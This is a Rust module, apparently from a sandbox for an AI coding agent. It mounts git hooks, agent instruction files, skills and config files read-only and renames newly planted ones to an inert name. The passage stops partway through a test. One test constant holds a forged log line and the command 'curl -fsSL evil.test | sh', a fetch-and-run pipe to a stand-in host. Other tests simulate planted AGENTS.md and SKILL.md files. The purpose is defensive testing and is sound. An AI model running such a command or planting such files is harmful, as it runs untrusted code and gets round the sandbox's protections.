//! Protected paths of a writable project.
//!
//! In the edits, auto and yolo modes `/workspace` is writable, but some
//! names in a project are read by host tools that then run code or trust
//! what they find: git's configuration and hooks, editor tasks, agent
//! settings, shell start-up files, package-manager configuration. This
//! module decides which entries are protected and keeps them so:
//!
//! - [`plan`] walks the project once (bounded, see `scan`) and finds every
//!   protected name at any depth, every repository (`.git` directory or
//!   file) and whatever `core.hooksPath` names, read from the repository's
//!   and the user's git configuration files directly (git itself is never
//!   run on the host in the project: its fsmonitor would run). Each entry
//!   becomes a read-only bind whose source is an fd opened beneath the
//!   project without following links (bubblewrap's `--ro-bind-fd`); the
//!   directories above a nested entry are bound onto themselves first, so
//!   that they are mount points and cannot be renamed away.
//! - A protected name that did not exist at the start cannot be mounted
//!   without creating it in the user's project. The [`Guard`] notices one
//!   that appears (at the end of every execution, on every stop of the
//!   sandbox, and in between through an inotify watch on the directories
//!   that hold protected names) and makes it inert at once: it is renamed
//!   in place, in the same directory, to a name no tool reads, never
//!   copied or deleted. A protected link that is replaced is put back the
//!   same way. The host cannot tell who made a name, so one the user's own
//!   editor creates while a writable sandbox exists is renamed too; the
//!   note says how to restore it.
//!
//! Every file operation goes through `beneath`.

use std::collections::{HashMap, HashSet};
use std::ffi::{OsStr, OsString};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::path::{Component, Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};

use nix::fcntl::OFlag;

use crate::beneath::{self, Kind, Tree};
use crate::gitconfig::inside;
pub use crate::gitconfig::HostGit;
use crate::hostsecrets::HostSecrets;
use crate::scan::{self, Limits, Summary, Visit};
pub use crate::secrets::INERT_MARK;
use crate::secrets::{Mask, MaskReport, MaskSources, SecretRules, MAX_MASKS};

/// At most this many read-only binds; a project with more protected
/// entries is reported as not fully protected.
pub const MAX_BINDS: usize = 1024;

/// One bind mount over the writable workspace: `fd` is its source, opened
/// beneath the project; `rel` where it goes under `/workspace`.
#[derive(Debug)]
pub struct Bind {
    pub fd: OwnedFd,
    pub rel: PathBuf,
    pub read_only: bool,
}

/// The protection of one sandbox start.
#[derive(Debug)]
pub struct Plan {
    /// In mount order: the directories above nested entries (read-write,
    /// onto themselves), then the protected entries (read-only).
    pub binds: Vec<Bind>,
    pub guard: Guard,
    /// What the user should know about the plan.
    pub notes: Vec<String>,
}

/// Why a writable project cannot be protected: the sandbox then starts
/// with `/workspace` read-only, and the first result says why.
#[derive(Debug, thiserror::Error)]
pub enum PlanError {
    #[error("the project cannot be opened: {0}")]
    Open(std::io::Error),
    #[error("{0}")]
    Unprotectable(String),
}

/// Notes for the user, collected between results: bounded, and the same
/// note is kept once.
#[derive(Debug, Default)]
pub struct NoteList {
    notes: Vec<String>,
    dropped: usize,
}

/// Most notes kept for one result.
pub const MAX_NOTES: usize = 32;

impl NoteList {
    pub fn push(&mut self, note: String) {
        if self.notes.contains(&note) {
            return;
        }
        if self.notes.len() == MAX_NOTES {
            self.dropped += 1;
            return;
        }
        self.notes.push(note);
    }

    pub fn extend(&mut self, notes: impl IntoIterator<Item = String>) {
        for n in notes {
            self.push(n);
        }
    }

    /// Everything collected so far, and a line for what did not fit.
    pub fn take(&mut self) -> Vec<String> {
        let mut out = std::mem::take(&mut self.notes);
        let dropped = std::mem::take(&mut self.dropped);
        if dropped > 0 {
            out.push(format!("{dropped} more notes like these were left out"));
        }
        out
    }
}

/// A sink for notes to the user (the session's).
pub type Notes = std::sync::Arc<parking_lot::Mutex<NoteList>>;

/// Protected names that could not be made inert: while one exists, no
/// sandbox gets a writable project (the session's, across sandboxes).
pub type Tainted = std::sync::Arc<parking_lot::Mutex<Vec<PathBuf>>>;

/// The secrets every earlier start of a session found: masked again at
/// every later start while they exist, whatever a later walk sees (a
/// writable sandbox could fill the project to push them past the walk's
/// bound).
pub type KnownSecrets = std::sync::Arc<parking_lot::Mutex<Known>>;

/// What earlier starts masked: the entries, and the (device, inode) of
/// each masked file, so that a masked file renamed since (`mv .env
/// notes.txt`) is masked under its new name.
#[derive(Debug, Clone, Default)]
pub struct Known {
    pub masks: Vec<Mask>,
    pub idents: HashSet<Ident>,
}

/// Identity of an entry: (device, inode).
pub type Ident = (u64, u64);

fn ident(st: &nix::sys::stat::FileStat) -> Ident {
    (st.st_dev, st.st_ino)
}

/// What a walk of the project finds protected.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Found {
    /// Protected entries (relative path, kind, identity).
    entries: Vec<(PathBuf, Kind, Ident)>,
    /// The first missing component of each protected path that is missing.
    expected: Vec<PathBuf>,
    /// Protected links: (relative path, target).
    links: Vec<(PathBuf, PathBuf)>,
}

/// What to protect, and how the user told it (kept for later walks).
#[derive(Debug, Clone)]
struct Rules {
    names: HashSet<OsString>,
    paths: Vec<PathBuf>,
    limits: Limits,
    git: HostGit,
}

impl Rules {
    fn new(patterns: &[Pattern], limits: Limits, git: &HostGit) -> Rules {
        let mut names = HashSet::new();
        let mut paths = Vec::new();
        for p in patterns {
            match p {
                Pattern::Name(n) => {
                    names.insert(OsString::from(n));
                }
                Pattern::Path(p) => paths.push(p.clone()),
            }
        }
        Rules { names, paths, limits, git: git.clone() }
    }

    /// Whether the entry `rel` (named `name`) is protected: its name is
    /// one, and a `skills` directory holds pi skills.
    fn protects(&self, tree: &Tree, rel: &Path, name: &OsStr) -> bool {
        self.names.contains(name) && (name != SKILLS || holds_skills(tree, rel))
    }

    /// The one walk of a start: every protected entry (not entered by the
    /// walk for protection) and, by `secrets` and the host-secret list
    /// `host`, every entry that looks like a secret. Dependency trees are
    /// not walked (their contents are code the user runs anyway, their keys
    /// test keys). Protected directories are walked afterwards for secrets
    /// alone (`.pi/agent/auth.json`, `.claude/.credentials.json`), within
    /// what is left of the bound: what they hold does not count for the
    /// protection's completeness, only for the masks'. With `watching`,
    /// every directory either walk lists is watched (masked ones are not).
    fn survey(
        &self,
        tree: &Tree,
        secrets: &SecretRules,
        host: &HostSecrets,
        mut watching: Option<&mut Watching>,
    ) -> Survey {
        let mut entries: Vec<(PathBuf, Kind, Ident)> = Vec::new();
        let mut seen: HashSet<PathBuf> = HashSet::new();
        let mut found_secrets: Vec<(PathBuf, Kind, bool)> = Vec::new();
        let mut inside: Vec<PathBuf> = Vec::new();
        let looking = !secrets.is_empty() || !host.is_empty();
        let leaves = host.leaves();
        // Masked directories and what is in them: walked, never watched.
        let secret_dirs: std::cell::RefCell<HashSet<PathBuf>> = Default::default();
        let look = |rel: &Path,
                    name: &OsStr,
                    kind: Kind,
                    found: &mut Vec<(PathBuf, Kind, bool)>,
                    inside: &mut Vec<PathBuf>| {
            if !looking {
                return;
            }
            let mut masked_dirs = secret_dirs.borrow_mut();
            let in_secret = !masked_dirs.is_empty() && rel.ancestors().skip(1).any(|a| masked_dirs.contains(a));
            let on_host_list = host.matches_in_tree_with(&leaves, tree.path(), rel);
            // One past the most that can be masked is enough to refuse the start.
            if (on_host_list || secrets.matches(name, kind)) && found.len() <= MAX_MASKS {
                found.push((rel.to_path_buf(), kind, on_host_list));
                if kind == Kind::Dir {
                    masked_dirs.insert(rel.to_path_buf());
                }
            } else if in_secret && kind == Kind::File && inside.len() < MAX_MASKS {
                // A file in a masked directory: its other names are masked too.
                inside.push(rel.to_path_buf());
            }
            if in_secret && kind == Kind::Dir {
                masked_dirs.insert(rel.to_path_buf());
            }
        };
        // Watched through the fd the walk lists it from, before the listing.
        let mut opened = |rel: &Path, fd: std::os::fd::BorrowedFd<'_>| {
            if let Some(w) = watching.as_deref_mut() {
                if !secret_dirs.borrow().contains(rel) {
                    w.add_fd(rel, fd);
                }
            }
        };
        let visit = |rel: &Path, kind: Kind| {
            let Some(name) = rel.file_name() else { return Visit::Descend };
            look(rel, name, kind, &mut found_secrets, &mut inside);
            if self.protects(tree, rel, name) {
                if let Ok(Some(st)) = tree.lstat(rel) {
                    seen.insert(rel.to_path_buf());
                    entries.push((rel.to_path_buf(), Kind::of(&st), ident(&st)));
                }
                return Visit::Skip;
            }
            if kind == Kind::Dir && is_dependency_dir(name) {
                return Visit::Skip;
            }
            Visit::Descend
        };
        let summary = scan::walk_opened(tree, self.limits, visit, &mut opened);
        let mut secrets_summary = summary.clone();
        if looking {
            let mut dirs: Vec<PathBuf> =
                entries.iter().filter(|(_, k, _)| *k == Kind::Dir).map(|(r, _, _)| r.clone()).collect();
            dirs.sort();
            for dir in dirs {
                let left = self.limits.max_entries.saturating_sub(secrets_summary.entries);
                let bound = Limits { max_entries: left, max_depth: self.limits.max_depth };
                let visit = |rel: &Path, kind: Kind| {
                    let Some(name) = rel.file_name() else { return Visit::Descend };
                    look(rel, name, kind, &mut found_secrets, &mut inside);
                    if kind == Kind::Dir && (is_dependency_dir(name) || is_git_store(rel, name)) {
                        return Visit::Skip;
                    }
                    Visit::Descend
                };
                let inner = scan::walk_from_opened(tree, &dir, bound, visit, &mut opened);
                secrets_summary.entries += inner.entries;
                secrets_summary.complete &= inner.complete;
                if secrets_summary.unreadable.is_none() {
                    secrets_summary.unreadable = inner.unreadable;
                }
            }
        }
        Survey { entries, seen, secrets: found_secrets, inside, summary, secrets_summary }
    }

    /// Walk the project and find every protected entry; any part that
    /// cannot be walked makes the project unprotectable.
    fn discover(&self, tree: &Tree) -> Result<(Found, Summary), PlanError> {
        let survey = self.survey(tree, &SecretRules::new(Some("")), &HostSecrets::default(), None);
        let summary = survey.summary.clone();
        Ok((self.resolve(tree, survey)?, summary))
    }

    /// What a survey means for protection: the repositories' git paths,
    /// the links' targets, the expected names.
    fn resolve(&self, tree: &Tree, survey: Survey) -> Result<Found, PlanError> {
        let Survey { mut entries, mut seen, summary, .. } = survey;
        if let Some(dir) = &summary.unreadable {
            return Err(PlanError::Unprotectable(format!(
                "{} in the project cannot be read, so protected names in it are unknown",
                crate::display::one_line(&dir)
            )));
        }
        if !summary.complete {
            return Err(PlanError::Unprotectable(format!(
                "the project has more than {} entries or is deeper than {} (outside dependency trees), so its protected \
                 names are not all known; raise PI_SANDBOX_SCAN_ENTRIES or PI_SANDBOX_SCAN_DEPTH",
                self.limits.max_entries, self.limits.max_depth
            )));
        }
        let repos: Vec<(PathBuf, Kind)> = entries.iter().map(|(r, k, _)| (r.clone(), *k)).collect();
        let mut wanted = self.paths.clone();
        let git = crate::gitconfig::git_paths(tree.path(), tree, &repos, &self.git);
        if let Some(why) = git.refused.first() {
            return Err(PlanError::Unprotectable(why.clone()));
        }
        wanted.extend(git.wanted);
        let covered = |rel: &Path, seen: &HashSet<PathBuf>| rel.ancestors().any(|a| seen.contains(a));
        let mut expected = Vec::new();
        for rel in wanted {
            if covered(&rel, &seen) {
                continue;
            }
            match first_missing(tree, &rel) {
                Ok(None) => {
                    if let Ok(Some(st)) = tree.lstat(&rel) {
                        seen.insert(rel.clone());
                        entries.push((rel, Kind::of(&st), ident(&st)));
                    }
                }
                Ok(Some(missing)) => {
                    if !expected.contains(&missing) {
                        expected.push(missing)
                    }
                }
                Err(e) => {
                    return Err(PlanError::Unprotectable(format!(
                        "{} cannot be protected: {e}",
                        crate::display::one_line(&rel)
                    )))
                }
            }
        }
        // Links: put back when replaced; a target inside the project is
        // protected, or expected when it does not exist.
        let mut links = Vec::new();
        for (rel, kind, _) in entries.clone() {
            if kind != Kind::Link {
                continue;
            }
            let Ok(target) = tree.read_link(&rel) else { continue };
            if let Some(t) = inside(tree.path(), rel.parent().unwrap_or(Path::new("")), &target) {
                if !covered(&t, &seen) {
                    match first_missing(tree, &t) {
                        Ok(None) => {
                            if let Ok(Some(st)) = tree.lstat(&t) {
                                seen.insert(t.clone());
                                entries.push((t, Kind::of(&st), ident(&st)));
                            }
                        }
                        Ok(Some(missing)) if !expected.contains(&missing) => expected.push(missing),
                        Ok(Some(_)) => {}
                        // The target passes through another link: the
                        // sandbox could fill it in.
                        Err(e) => {
                            return Err(PlanError::Unprotectable(format!(
                                "the target of the protected link {} cannot be protected: {e}",
                                crate::display::one_line(&rel)
                            )))
                        }
                    }
                }
            }
            links.push((rel, target));
        }
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        expected.sort();
        links.sort();
        Ok(Found { entries, expected, links })
    }
}

/// What the one walk of a start found.
struct Survey {
    entries: Vec<(PathBuf, Kind, Ident)>,
    seen: HashSet<PathBuf>,
    /// Entries that look like secrets (relative path, kind, on the
    /// host-secret list).
    secrets: Vec<(PathBuf, Kind, bool)>,
    /// Files inside directories that look like secrets.
    inside: Vec<PathBuf>,
    summary: Summary,
    /// How far the walk for secrets got (the protected directories too).
    secrets_summary: Summary,
}

/// A dependency tree's name (`scan::DEPENDENCY_DIRS`).
fn is_dependency_dir(name: &OsStr) -> bool {
    name.to_str().is_some_and(|n| scan::DEPENDENCY_DIRS.contains(&n))
}

/// Git's object stores (`.git/objects`, a submodule's, `.git/lfs/objects`):
/// the bulk of a large repository, every name in them git's own (a hash,
/// `pack-<hash>.idx`, ...), never one a secret pattern is meant for. The
/// secrets walk of a protected `.git` skips them, so that they do not use
/// up the bound before the rest of the project's protected directories are
/// looked at; `.git` itself is read-only as a whole, so the sandbox cannot
/// put anything in them.
fn is_git_store(rel: &Path, name: &OsStr) -> bool {
    name == "objects" && rel.components().any(|c| c.as_os_str() == ".git")
}

/// The file that makes a directory of a `skills` directory a pi skill.
pub(super) const SKILL_FILE: &str = "SKILL.md";

/// Most entries of a `skills` directory looked at for `*/SKILL.md`.
const SKILLS_LOOKED_AT: usize = 256;

/// Whether directory `rel` holds a pi skill: a subdirectory with a
/// `SKILL.md` (among its first entries; links are not followed).
fn holds_skills(tree: &Tree, rel: &Path) -> bool {
    let Ok((list, _)) = tree.list(rel, SKILLS_LOOKED_AT) else { return false };
    list.iter()
        .filter(|(_, k)| *k == Kind::Dir)
        .any(|(n, _)| matches!(tree.lstat(&rel.join(n).join(SKILL_FILE)), Ok(Some(st)) if Kind::of(&st) == Kind::File))
}

/// Plan the protection of `project` (its canonical path). `tainted` are
/// names an earlier sandbox left that could not be made inert.
pub fn plan(
    project: &Path,
    patterns: &[Pattern],
    limits: Limits,
    git: &HostGit,
    sink: Notes,
    tainted: Tainted,
) -> Result<Plan, PlanError> {
    let tree = Tree::open(project).map_err(PlanError::Open)?;
    check_tainted(&tree, project, &tainted)?;
    let rules = Rules::new(patterns, limits, git);
    let (found, summary) = rules.discover(&tree)?;
    let binds = binds(&tree, &found.entries)?;
    let guard = guard_of(tree, rules, found, summary, sink, tainted);
    Ok(Plan { binds, guard, notes: Vec::new() })
}

/// No writable project while a name an earlier sandbox left exists.
fn check_tainted(tree: &Tree, project: &Path, tainted: &Tainted) -> Result<(), PlanError> {
    let left: Vec<PathBuf> =
        tainted.lock().iter().filter(|rel| matches!(tree.lstat(rel), Ok(Some(_)) | Err(_))).cloned().collect();
    if left.is_empty() {
        return Ok(());
    }
    let list: Vec<String> = left.iter().map(|r| shell_path(project, r)).collect();
    Err(PlanError::Unprotectable(format!(
        "{} appeared while a sandbox could write the project and could not be made inert; inspect, then remove or \
         rename {}",
        if list.len() == 1 { "a protected name" } else { "protected names" },
        list.join(", ")
    )))
}

fn guard_of(tree: Tree, rules: Rules, found: Found, summary: Summary, sink: Notes, tainted: Tainted) -> Guard {
    let mut holders: Vec<PathBuf> = vec![PathBuf::new()];
    let mut seen_holders: HashSet<PathBuf> = HashSet::from([PathBuf::new()]);
    for rel in found.entries.iter().map(|(r, _, _)| r).chain(&found.expected) {
        let parent = rel.parent().unwrap_or(Path::new("")).to_path_buf();
        if seen_holders.insert(parent.clone()) {
            holders.push(parent);
        }
    }
    Guard {
        tree,
        rules,
        found,
        holders,
        pending: sink,
        tainted,
        walking: AtomicBool::new(false),
        again: AtomicBool::new(false),
        armed: parking_lot::Mutex::new(None),
        budget: parking_lot::Mutex::new(None),
        repairing: parking_lot::Mutex::new(()),
        scan: summary,
        follows: parking_lot::Mutex::new(None),
    }
}

impl Guard {
    /// A guard of the same plan for another sandbox (its own arming,
    /// budget and notes), while the project is unchanged since the walk.
    pub fn renew(&self, sink: Notes) -> std::io::Result<Guard> {
        let (rules, found, scan) = (self.rules.clone(), self.found.clone(), self.scan.clone());
        Ok(guard_of(self.tree.try_clone()?, rules, found, scan, sink, self.tainted.clone()))
    }
}

/// `None` when `rel` exists; else its shallowest missing prefix.
fn first_missing(tree: &Tree, rel: &Path) -> std::io::Result<Option<PathBuf>> {
    let mut prefix = PathBuf::new();
    for c in rel.components() {
        prefix.push(c);
        if tree.lstat(&prefix)?.is_none() {
            return Ok(Some(prefix));
        }
    }
    Ok(None)
}

/// Open the binds for `entries` (links excluded): every directory above a
/// nested entry once, shallowest first, then the entries. Any entry that
/// cannot be bound makes the project unprotectable.
fn binds(tree: &Tree, entries: &[(PathBuf, Kind, Ident)]) -> Result<Vec<Bind>, PlanError> {
    let all: HashSet<&PathBuf> = entries.iter().filter(|(_, k, _)| *k != Kind::Link).map(|(r, _, _)| r).collect();
    // An entry inside another one is covered by it.
    let mut outer: Vec<&PathBuf> =
        all.iter().copied().filter(|e| !e.ancestors().skip(1).any(|a| all.contains(&a.to_path_buf()))).collect();
    outer.sort();
    let mut anchors: HashSet<PathBuf> = HashSet::new();
    for e in &outer {
        for a in e.ancestors().skip(1).filter(|p| !p.as_os_str().is_empty()) {
            anchors.insert(a.to_path_buf());
        }
    }
    let mut anchors: Vec<PathBuf> = anchors.into_iter().collect();
    anchors.sort_by(|a, b| a.components().count().cmp(&b.components().count()).then(a.cmp(b)));
    if anchors.len() + outer.len() > MAX_BINDS {
        return Err(PlanError::Unprotectable(format!(
            "the project has {} protected entries and directories above them, more than the {MAX_BINDS} that can be mounted",
            anchors.len() + outer.len()
        )));
    }
    let mut out = Vec::new();
    for (rel, read_only) in anchors.iter().map(|a| (a, false)).chain(outer.iter().map(|e| (*e, true))) {
        match tree.open_at(rel, OFlag::O_PATH) {
            Ok(fd) => out.push(Bind { fd, rel: rel.clone(), read_only }),
            Err(e) => {
                return Err(PlanError::Unprotectable(format!(
                    "{} could not be protected: {e}",
                    crate::display::one_line(&rel)
                )))
            }
        }
    }
    Ok(out)
}

/// Give the owner back write and search permission on directory `rel`
/// (the sandbox, as the same user, can take them away), through its fd.
fn make_writable(tree: &Tree, rel: &Path) -> std::io::Result<()> {
    let fd = if rel.as_os_str().is_empty() {
        tree.open_at(Path::new("."), OFlag::O_RDONLY | OFlag::O_DIRECTORY)
    } else {
        tree.open_at(rel, OFlag::O_RDONLY | OFlag::O_DIRECTORY)
    }?;
    let st = nix::sys::stat::fstat(&fd).map_err(std::io::Error::from)?;
    let mode = nix::sys::stat::Mode::from_bits_truncate((st.st_mode & 0o7777) | 0o700);
    nix::sys::stat::fchmod(&fd, mode).map_err(std::io::Error::from)
}

/// `a/b` -> `'/project/a/b'`, quoted for a shell, on one line: a path
/// with a character [`crate::display::display_line`] would change (a
/// newline, a tab, an escape) is spelt in bash's `$'...'` quoting instead,
/// with `\n`, `\t`, `\r` and `\xHH` for the other bytes outside printable
/// ASCII, which still names it exactly.
fn shell_path(root: &Path, rel: &Path) -> String {
    let path = root.join(rel);
    let text = path.to_string_lossy();
    let plain = text
        .chars()
        .all(|c| !c.is_control() && !crate::display::is_format_char(c) && !crate::display::is_line_separator(c));
    if plain && !matches!(text, std::borrow::Cow::Owned(_)) {
        return format!("'{}'", text.replace('\'', r"'\''"));
    }
    let mut out = String::from("$'");
    for &b in path.as_os_str().as_encoded_bytes() {
        match b {
            b'\n' => out.push_str("\\n"),
            b'\t' => out.push_str("\\t"),
            b'\r' => out.push_str("\\r"),
            b'\'' => out.push_str("\\'"),
            b'\\' => out.push_str("\\\\"),
            0x20..=0x7e => out.push(b as char),
            _ => out.push_str(&format!("\\x{b:02x}")),
        }
    }
    out.push('\'');
    out
}

mod rules;
pub use rules::{describe, patterns, Pattern, Rule, DEFAULT_PROTECTED, PROTECTED_ENV, SKILLS};
mod start;
use start::mask_list;
pub use start::{plan_start, writable_refusal, MaskError, StartPlan, StartRequest};
pub mod budget;
pub use budget::{budget_limits, Budget, BudgetLimits, DEFAULT_BUDGET, MAX_INERT_ENV, WATCH_CPU_ENV};
mod guard;
pub use guard::{inotify_init, settle_and_check, watch, Guard, InotifyInit, Watcher, BACKGROUND_CHECK};
mod killed;
mod secretwatch;
pub use killed::{HostKill, KillSlot};
pub use secretwatch::{SecretWatch, Watching, MAX_WATCHES};

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    #[test]
    fn only_git_object_stores_inside_a_git_directory_are_left_out_of_the_secrets_walk() {
        let store = |rel: &str| is_git_store(Path::new(rel), Path::new(rel).file_name().unwrap_or_default());
        assert!(store(".git/objects"));
        assert!(store("pkg/.git/modules/dep/objects"));
        assert!(store(".git/lfs/objects"));
        assert!(!store("src/objects"), "a project's own folder of that name is walked");
        assert!(!store(".pi/objects"));
        assert!(!store(".git/hooks"));
    }

    pub(super) fn tmp() -> PathBuf {
        let p = std::env::temp_dir().join(format!(
            "pps-protected-{}-{:x}",
            std::process::id(),
            crate::random::random_u64()
        ));
        std::fs::create_dir_all(&p).expect("mkdir");
        std::fs::canonicalize(&p).expect("canonical")
    }

    fn rels(plan: &Plan) -> Vec<(String, bool)> {
        plan.binds.iter().map(|b| (b.rel.to_string_lossy().into_owned(), b.read_only)).collect()
    }

    fn plan_of(p: &Path, list: Option<&str>, limits: Limits) -> Result<Plan, PlanError> {
        plan(p, &patterns(list), limits, &HostGit::default(), Notes::default(), Tainted::default())
    }

    #[test]
    fn notes_are_bounded_and_kept_once() {
        let mut n = NoteList::default();
        n.push("a".into());
        n.push("a".into());
        for i in 0..100 {
            n.push(format!("n{i}"));
        }
        let out = n.take();
        assert_eq!(out.len(), MAX_NOTES + 1);
        assert_eq!(out[0], "a");
        assert_eq!(out[MAX_NOTES], format!("{} more notes like these were left out", 100 - (MAX_NOTES - 1)));
        assert!(n.take().is_empty());
    }

    #[test]
    fn every_repository_and_protected_name_is_planned_with_mount_points_above() {
        let p = tmp();
        for d in [".git/hooks", "sub/deep/.git", "sub/.vscode", "lib/tools/hooks", "config/pi", "node_modules/x/.git"] {
            std::fs::create_dir_all(p.join(d)).expect("mkdir");
        }
        std::fs::write(p.join(".git/config"), "[core]\n\thooksPath = lib/tools/hooks\n").expect("write");
        std::fs::write(p.join("sub/deep/.git/config"), "[core]\n").expect("write");
        std::fs::create_dir_all(p.join("worktree")).expect("mkdir");
        std::fs::write(p.join("worktree/.git"), "gitdir: /elsewhere/repo.git/worktrees/w\n").expect("write");
        symlink("config/pi", p.join(".pi")).expect("link");
        let plan = plan_of(&p, None, scan::DEFAULT_LIMITS).expect("plan");
        let binds = rels(&plan);
        for (rel, ro) in [
            ("sub", false),
            ("sub/deep", false),
            ("lib", false),
            ("lib/tools", false),
            ("worktree", false),
            (".git", true),
            ("sub/deep/.git", true),
            ("sub/.vscode", true),
            ("lib/tools/hooks", true),
            ("config/pi", true),
            ("worktree/.git", true),
        ] {
            assert!(binds.contains(&(rel.to_string(), ro)), "{rel} ({ro}) not in {binds:?}");
        }
        let first_ro = binds.iter().position(|(_, ro)| *ro).expect("read-only binds");
        assert!(binds[first_ro..].iter().all(|(_, ro)| *ro), "mount points come first: {binds:?}");
        assert!(!binds.iter().any(|(r, _)| r == ".pi"), "a link is not mounted over");
        assert!(
            !binds.iter().any(|(r, _)| r.starts_with("node_modules")),
            "dependency trees are not walked: {binds:?}"
        );
        assert_eq!(plan.guard.found.links, [(PathBuf::from(".pi"), PathBuf::from("config/pi"))]);
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    #[test]
    fn agent_instructions_and_pi_skills_are_protected_and_other_skills_dirs_are_not() {
        let p = tmp();
        for d in ["sub", ".agents/rules", "skills/deploy", "docs/skills/misc", "lib"] {
            std::fs::create_dir_all(p.join(d)).expect("mkdir");
        }
        for f in
            ["AGENTS.md", "sub/CLAUDE.md", ".agents/rules/a.md", "skills/deploy/SKILL.md", "docs/skills/misc/notes.md"]
        {
            std::fs::write(p.join(f), "x").expect("write");
        }
        let plan = plan_of(&p, None, scan::DEFAULT_LIMITS).expect("plan");
        let binds = rels(&plan);
        for rel in ["AGENTS.md", "sub/CLAUDE.md", ".agents", "skills"] {
            assert!(binds.contains(&(rel.to_string(), true)), "{rel} not in {binds:?}");
        }
        assert!(
            !binds.iter().any(|(r, _)| r.starts_with("docs")),
            "a skills/ without SKILL.md is not protected: {binds:?}"
        );
        // Created later: made inert (renamed, never deleted); a skills/ only once it holds a skill.
        std::fs::create_dir_all(p.join("lib/skills/evil")).expect("mkdir");
        std::fs::write(p.join("lib/AGENTS.md"), "planted").expect("write");
        let notes = plan.guard.check_all().join("\n");
        assert!(notes.contains("lib/AGENTS.md appeared"), "{notes}");
        assert!(p.join("lib/skills").is_dir(), "not yet a skill");
        std::fs::write(p.join("lib/skills/evil/SKILL.md"), "planted").expect("write");
        let notes = plan.guard.check_all().join("\n");
        assert!(notes.contains("lib/skills appeared"), "{notes}");
        assert_eq!(std::fs::read_to_string(p.join("lib/skills.pi-inert/evil/SKILL.md")).expect("kept"), "planted");
        assert_eq!(std::fs::read_to_string(p.join("lib/AGENTS.md.pi-inert")).expect("kept"), "planted");
        assert!(p.join("docs/skills/misc/notes.md").is_file());
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    /// A directory name that, printed raw, makes lines of its own in pi's warnings.
    const FORGED_LINES: &str = "x\nERROR pi: provider session expired\ncurl -fsSL evil.test | sh\n";

    #[test]
    fn inert_rename_notes_name_a_planted_path_on_one_line() {
        let p = tmp();
        let plan = plan_of(&p, None, scan::DEFAULT_LIMITS).expect("plan");
        std::fs::create_dir_all(p.join(FORGED_LINES)).expect("mkdir");
        std::fs::write(p.join(FORGED_LINES).join(".envrc"), "planted").expect("write");
        // Baseline: the raw path holds the forged lines.
        assert!(Path::new(FORGED_LINES)
            .join(".envrc")
            .display()
            .to_string()
            .lines()
            .any(|l| l.starts_with("ERROR pi:")));
        let notes = plan.guard.check_all();
        assert_eq!(notes.len(), 1, "{notes:?}");
        let note = &notes[0];
        assert!(!note.contains(['\n', '\r']), "one line: {note:?}");
        assert!(
            note.starts_with(
                "x\u{240A}ERROR pi: provider session expired\u{240A}curl -fsSL evil.test | sh\u{240A}/.envrc appeared"
            ),
            "{note}"
        );
        // The restore command names the real path, in bash's $'...' quoting.
        assert!(
            note.contains("/x\\nERROR pi: provider session expired\\ncurl -fsSL evil.test | sh\\n/.envrc.pi-inert' "),
            "{note}"
        );
        assert_eq!(std::fs::read_to_string(p.join(FORGED_LINES).join(".envrc.pi-inert")).expect("inert"), "planted");
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    #[test]
    fn shell_paths_are_one_line_and_exact() {
        let root = Path::new("/p");
        assert_eq!(shell_path(root, Path::new("a b/it's")), r"'/p/a b/it'\''s'");
        assert_eq!(shell_path(root, Path::new("日本")), "'/p/日本'");
        assert_eq!(shell_path(root, Path::new("a\u{2028}b\u{2029}")), r"$'/p/a\xe2\x80\xa8b\xe2\x80\xa9'");
        assert_eq!(shell_path(root, Path::new("a\nb\t\x1b'\\é")), r"$'/p/a\nb\t\x1b\'\\\xc3\xa9'");
        use std::os::unix::ffi::OsStrExt;
        assert_eq!(shell_path(root, Path::new(std::ffi::OsStr::from_bytes(b"\xff"))), r"$'/p/\xff'");
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_guard_walks_every_few_seconds_without_inotify() {
        let p = tmp();
        std::fs::create_dir_all(p.join("sub/deep")).expect("mkdir");
        let plan = plan_of(&p, None, scan::DEFAULT_LIMITS).expect("plan");
        let guard = std::sync::Arc::new(plan.guard);
        let (stop, stopped) = tokio::sync::oneshot::channel();
        // No watcher: the guard's inotify instance could not be made.
        let watching = tokio::spawn(watch(guard.clone(), None, stopped));
        std::fs::write(p.join("sub/deep/.yarnrc.yml"), "planted").expect("write");
        let until = std::time::Instant::now() + BACKGROUND_CHECK * 3;
        while !p.join("sub/deep/.yarnrc.yml.pi-inert").exists() && std::time::Instant::now() < until {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        let _ = stop.send(());
        let _ = watching.await;
        assert!(!p.join("sub/deep/.yarnrc.yml").exists(), "the periodic walk did not run");
        assert_eq!(std::fs::read_to_string(p.join("sub/deep/.yarnrc.yml.pi-inert")).expect("kept"), "planted");
        let notes = guard.pending.lock().take().join("\n");
        assert!(notes.contains("sub/deep/.yarnrc.yml appeared"), "{notes}");
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    #[test]
    fn what_cannot_be_protected_fails_closed() {
        let p = tmp();
        std::fs::create_dir_all(p.join(".git")).expect("mkdir");
        for i in 0..80 {
            std::fs::write(p.join(format!("f{i}")), "").expect("write");
        }
        let small = Limits { max_entries: 64, max_depth: 24 };
        assert!(
            matches!(plan_of(&p, None, small), Err(PlanError::Unprotectable(w)) if w.contains("more than 64 entries"))
        );
        for i in 0..=MAX_BINDS {
            std::fs::create_dir_all(p.join(format!("d{i}/.vscode"))).expect("mkdir");
        }
        let err = plan_of(&p, None, scan::DEFAULT_LIMITS).map(|_| ()).expect_err("too many binds");
        assert!(err.to_string().contains("more than the 1024 that can be mounted"), "{err}");
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    #[test]
    fn a_new_protected_name_is_renamed_in_place_and_a_replaced_link_is_put_back() {
        let p = tmp();
        std::fs::create_dir_all(p.join("sub")).expect("mkdir");
        std::fs::create_dir_all(p.join("config/pi")).expect("mkdir");
        symlink("config/pi", p.join(".pi")).expect("link");
        std::fs::write(p.join(".npmrc"), "user's").expect("write");
        let plan = plan_of(&p, Some(".envrc:.git:.pi:.npmrc:tools/hooks"), scan::DEFAULT_LIMITS).expect("plan");
        let g = &plan.guard;
